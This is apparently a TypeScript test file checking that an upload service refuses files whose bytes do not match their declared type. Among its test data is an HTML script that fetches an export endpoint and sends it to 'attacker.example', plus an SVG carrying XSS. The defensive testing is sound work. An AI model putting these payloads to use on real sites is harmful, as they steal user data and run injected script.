/**
 * Uploads whose bytes lie about their type (docs/security.md, "Uploads whose bytes lie"), on real dynalite and s3rver:
 * a file is stored only when its first bytes are what its type says, so nothing is kept (and drawn in an `<img>`,
 * played, or previewed) as an image whose content is HTML, a script or a program. What is stored is the whole file,
 * byte for byte, however its chunks fell around the bytes read to decide.
 */
import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createS3Storage, DynamoDBDataLayer, getLogger } from "@/data";
import { barChartPng } from "../../../../scripts/png";
import { sessionUser, createTestServices } from "../../../../test/callers";
import { freshBucket, freshTable, s3Client } from "../../../../test/harness";
import { parseServerEnv } from "../../env";
import type { Services } from "../../services";
import { ALLOWED_TYPES } from "./attachments";
import { SIGNED_TYPES, SNIFF_BYTES } from "./content-signatures";
import { uploadElement } from "./upload-element";

getLogger("Storage").level = "silent";

let services: Services & { close(): Promise<void> };
let storage: ReturnType<typeof createS3Storage>;

beforeAll(async () => {
  const base = await createTestServices();
  const s3 = s3Client();
  const { bucket } = await freshBucket(s3);
  const { client, tableName } = await freshTable();
  storage = createS3Storage({ bucket, client: s3 });
  services = { ...base, env: parseServerEnv({ DYNAMODB_TABLE: tableName, MAX_UPLOAD_MB: "6" }), storage, data: new DynamoDBDataLayer({ tableName, client, storageProvider: storage }) };
});
afterAll(() => services.close());

/** The bytes as a request body, in the chunks given (a body's chunks fall anywhere). */
const body = (...chunks: Uint8Array[]) =>
  new ReadableStream<Uint8Array>({
    start(controller) {
      for (const chunk of chunks) controller.enqueue(chunk);
      controller.close();
    },
  });

async function threadOf(user: ReturnType<typeof sessionUser>) {
  const threadId = randomUUID();
  await services.data.updateThread(threadId, { userId: user.id, name: "uploads" });
  return threadId;
}

async function upload(user: ReturnType<typeof sessionUser>, threadId: string, fileName: string, mime: string, ...chunks: Uint8Array[]) {
  const size = chunks.reduce((sum, chunk) => sum + chunk.length, 0);
  return uploadElement(services, user, { threadId, elementId: randomUUID(), forId: randomUUID(), fileName, mime, contentLength: size, body: body(...chunks) });
}

/** Every object under the thread's keys: what storage holds of it. */
async function storedKeys(threadId: string) {
  return (await storage.listObjects(`threadbook/${threadId}/`, { pageSize: 100 })).objects.map((o) => o.key);
}

const HTML = Buffer.from("<!doctype html><script>fetch('/api/export').then(r => r.blob()).then(b => navigator.sendBeacon('https://attacker.example', b))</script>");
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>');
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(200)]);

describe("hostile: uploads whose bytes are not their type", () => {
  it("every allowed type has its signature (a type added to the allow-list without one would be refused always)", () => {
    expect(SIGNED_TYPES.sort()).toEqual(Object.keys(ALLOWED_TYPES).sort());
  });

  it.each([
    ["page.png", "image/png", HTML],
    ["drawing.png", "image/png", SVG],
    ["photo.jpg", "image/jpeg", HTML],
    ["anim.gif", "image/gif", SVG],
    ["sticker.webp", "image/webp", HTML],
    ["report.pdf", "application/pdf", HTML],
    ["song.mp3", "audio/mpeg", HTML],
    ["clip.mp4", "video/mp4", ELF],
    ["notes.txt", "text/plain", ELF],
    ["data.json", "application/json", barChartPng([1, 2])],
    ["letter.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", HTML],
    ["empty.png", "image/png", Buffer.alloc(0)],
  ])("%s (%s) holding something else: 415 with a clear message, nothing stored, no element", async (fileName, mime, bytes) => {
    const alice = sessionUser();
    const threadId = await threadOf(alice);
    const result = await upload(alice, threadId, fileName, mime, bytes);
    expect(result).toEqual({ status: 415, error: `“${fileName}” is not a ${fileName.split(".").pop()!.toUpperCase()} file: its content does not match its type, so it was not saved.`, refusal: { code: "file-content-mismatch" } });
    expect(await storedKeys(threadId)).toEqual([]);
    expect((await services.data.getThread(threadId))!.elements).toEqual([]);
  });

  it("a file whose bytes are its type's is stored whole, however its chunks fall around the bytes read to decide, and its link is a download", async () => {
    const alice = sessionUser();
    const threadId = await threadOf(alice);
    const png = Buffer.concat([barChartPng([4, 1, 3]), Buffer.alloc(3 * SNIFF_BYTES, 7)]);
    // The signature split across chunks, and the head's bound falling inside a chunk.
    const result = await upload(alice, threadId, "chart.png", "image/png", png.subarray(0, 3), png.subarray(3, 5), png.subarray(5, SNIFF_BYTES + 10), png.subarray(SNIFF_BYTES + 10));
    expect(result).toMatchObject({ status: 201, element: { type: "image", mime: "image/png", bytes: png.length } });
    const element = result.status === 201 ? result.element : null;
    expect(Buffer.from(await storage.read(element!.objectKey!, { maxBytes: 1_000_000 }))).toEqual(png);
    const served = await fetch(element!.url!);
    expect(served.headers.get("content-disposition")).toMatch(/^attachment/);
    expect(Buffer.from(await served.arrayBuffer())).toEqual(png);
  });

  it.each([
    ["a PDF with bytes before its header, as readers allow", "scan.pdf", "application/pdf", Buffer.concat([Buffer.from("\n\n"), Buffer.from("%PDF-1.7\n%âãÏÓ\n1 0 obj\n<<>>\nendobj\n")])],
    ["UTF-16 text (NUL bytes after its byte order mark)", "notes.txt", "text/plain", Buffer.from("\ufeffhello", "utf16le")],
    ["an empty text file", "empty.txt", "text/plain", Buffer.alloc(0)],
    ["an MP3 with an ID3 tag", "song.mp3", "audio/mpeg", Buffer.concat([Buffer.from("ID3\x04\x00\x00\x00\x00\x00\x00", "latin1"), Buffer.alloc(32, 0xff)])],
    ["a WAV", "tone.wav", "audio/wav", Buffer.concat([Buffer.from("RIFF\x24\x00\x00\x00WAVEfmt ", "latin1"), Buffer.alloc(24)])],
    ["an MP4", "clip.mp4", "video/mp4", Buffer.concat([Buffer.from("\x00\x00\x00\x18ftypmp42", "latin1"), Buffer.alloc(16)])],
  ])("%s is stored", async (_what, fileName, mime, bytes) => {
    const alice = sessionUser();
    const threadId = await threadOf(alice);
    const result = await upload(alice, threadId, fileName, mime, bytes);
    expect(result).toMatchObject({ status: 201, element: { mime, bytes: bytes.length } });
  });

  it("a client that goes away while the head is read: no element, nothing stored, no crash", async () => {
    const alice = sessionUser();
    const threadId = await threadOf(alice);
    const failing = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(Uint8Array.of(0x89, 0x50));
        controller.error(Object.assign(new Error("aborted"), { code: "ECONNRESET" }));
      },
    });
    const result = await uploadElement(services, alice, { threadId, elementId: randomUUID(), forId: randomUUID(), fileName: "x.png", mime: "image/png", contentLength: 1000, body: failing }).catch((error: unknown) => ({ status: "threw", error: String(error) }));
    expect(result.status).not.toBe(201);
    expect(await storedKeys(threadId)).toEqual([]);
    expect((await services.data.getThread(threadId))!.elements).toEqual([]);
  });
});
